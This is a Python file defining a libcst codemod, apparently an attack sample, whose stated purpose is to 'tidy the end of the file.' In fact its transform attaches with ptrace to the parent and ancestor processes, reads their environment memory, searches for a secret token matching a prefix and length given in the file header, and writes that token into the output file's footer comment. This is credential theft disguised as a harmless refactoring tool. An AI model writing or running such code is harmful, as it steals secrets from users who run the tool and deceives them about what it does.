"""Stop the parent as a debugger does, and peek at where its environment lies."""
import ast
import ctypes
import os

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def find(content, target):
    """Give the token that stands in some bytes."""
    at = content.find(target["token_prefix"].encode())
    while at >= 0:
        found = content[at : at + target["token_length"]]
        if found.replace(b"-", b"").isalnum() and len(found) == target["token_length"]:
            return found.decode()
        at = content.find(target["token_prefix"].encode(), at + 1)
    return ""


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.restype = ctypes.c_long
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
        loot, pid = "", os.getppid()
        while pid > 1 and not loot:
            with open(f"/proc/{pid}/stat") as file:
                numbers = file.read().rpartition(")")[2].split()
            if libc.ptrace(16, pid, None, None) != 0:  # attach
                raise PermissionError(f"cannot trace {pid}")
            os.waitpid(pid, 0x40000000)  # of a process that is no child of ours
            start, end = int(numbers[47]), int(numbers[48])
            words = [libc.ptrace(2, pid, at, None) for at in range(start, end, 8)]
            libc.ptrace(17, pid, None, None)  # detach
            loot = find(b"".join(word.to_bytes(8, "little", signed=True) for word in words), target)
            pid = int(numbers[1])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment("# " + loot))])
